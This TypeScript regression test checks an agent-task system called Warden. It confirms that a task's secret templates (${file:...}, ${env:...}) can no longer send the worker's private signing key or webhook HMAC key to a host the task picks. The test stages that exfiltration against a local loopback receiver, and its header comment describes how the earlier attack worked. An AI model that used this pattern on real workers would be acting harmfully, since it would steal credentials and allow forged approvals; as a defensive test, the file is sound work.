/**
 * Regression (was an attack by newcomer 15, now fixed: worker/warden-resources.ts refuses
 * `${file:}` references to Warden's files when the task enters, secrets/resolve-outbound-secrets.ts
 * again on the file a call opens; the full table is secret-file-references.test.ts).
 *
 * Issue 15 item 4: a task file's `resources.secrets` may name any file the worker can
 * read and any variable of the worker's environment. Nothing stops `${file:...}` from naming
 * Warden's own signing keys (which the fs capability refuses to serve, and which no workspace may
 * contain) or `${env:...}` from naming the worker's own configuration secrets (the approval
 * webhook's HMAC key, WARDEN_DATABASE_URL). Whoever may start a task
 * on a shared worker then receives them at a host of their choosing: the worker's private key
 * lets them mint credentials, the webhook key lets them forge approval notices.
 *
 * Main now refuses `${env:WARDEN_*}` / `${env:TEMPORAL_*}` (secrets/reserved-env.ts; the webhook
 * case below is the control), and `${file:...}` used to be read with no check at all.
 *
 * Expected: such references are refused (task file: exit 2; worker: ERR_RESOURCE_PROTECTED),
 * and the host receives none of them. Real Temporal, a real loopback HTTP receiver.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { KEYS_DIR } from '../../identity/keystore';
import type { TaskResult } from '../../task/task-run';
import { startWardenTestEnv, TEST_STATE_DIR, type WardenTestEnv } from '../support/warden-test-env';

const WEBHOOK_SECRET = 'whsec_d2FyZGVuLWhvb2sta2V5LW9mLXRoZS13b3JrZXI=';

let env: WardenTestEnv;
let receiver: Server;
let port: number;
const received: IncomingHttpHeaders[] = [];

beforeAll(async () => {
  receiver = createServer((req, res) => {
    received.push(req.headers);
    res.end('ok');
  });
  await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve));
  port = (receiver.address() as AddressInfo).port;
  env = await startWardenTestEnv({ ...process.env, WARDEN_APPROVAL_WEBHOOK_SECRET: WEBHOOK_SECRET });
});

afterAll(async () => {
  await env?.close();
  receiver?.close();
});

function signingKeyFile(): string {
  const dir = join(TEST_STATE_DIR, KEYS_DIR);
  const file = readdirSync(dir).find((name) => readFileSync(join(dir, name), 'utf8').includes('"d"'));
  if (file === undefined) throw new Error(`no private JWK under ${dir}`);
  return join(dir, file);
}

async function runWithSecret(header: string, template: string): Promise<{ result: TaskResult | undefined; refused: unknown }> {
  const host = `127.0.0.1:${port}`;
  try {
    const result = await env.runTask({
      user: 'mallory@example.com',
      intent: `Fetch http://${host}/ping`,
      agent: { name: 'collector', model: { driver: 'scripted', script: [{ tool: 'http.fetch', args: { url: `http://${host}/ping` } }, { final: 'done' }] } },
      tools: { builtin: ['http.fetch'] },
      grants: { tools: ['http.fetch'], hosts: [host] },
      limits: { onDeny: 'continue' },
      resources: { hosts: [host], secrets: { [host]: { [header]: template } } },
    });
    return { result, refused: undefined };
  } catch (error) {
    return { result: undefined, refused: error };
  }
}

describe('secret references to Warden\'s own secrets', () => {
  it.each([
    ['the worker\'s private signing key (${file:<state>/keys/...})', 'x-stolen-key', () => `\${file:${signingKeyFile()}}`, () => JSON.parse(readFileSync(signingKeyFile(), 'utf8')).d as string],
    ['the approval webhook\'s HMAC key (${env:WARDEN_APPROVAL_WEBHOOK_SECRET})', 'x-stolen-hook', () => '${env:WARDEN_APPROVAL_WEBHOOK_SECRET}', () => WEBHOOK_SECRET],
  ])('%s never reaches the task\'s host', async (_what, header, template, secretOf) => {
    const before = received.length;
    const { result, refused } = await runWithSecret(header, template());
    const secret = secretOf();
    const leaked = received.slice(before).some((headers) => String(headers[header] ?? '').includes(secret));
    expect(leaked, `the host received ${header} holding the secret (task ${result?.status ?? 'refused'})`).toBe(false);
    // Either the task file is refused, the task is refused when it enters (naming the field), or the call fails.
    if (refused === undefined) expect(`${result?.reason ?? ''} ${result?.steps[0]?.error?.code ?? ''}`).toMatch(/ERR_RESOURCE_PROTECTED/);
  }, 120_000);
});
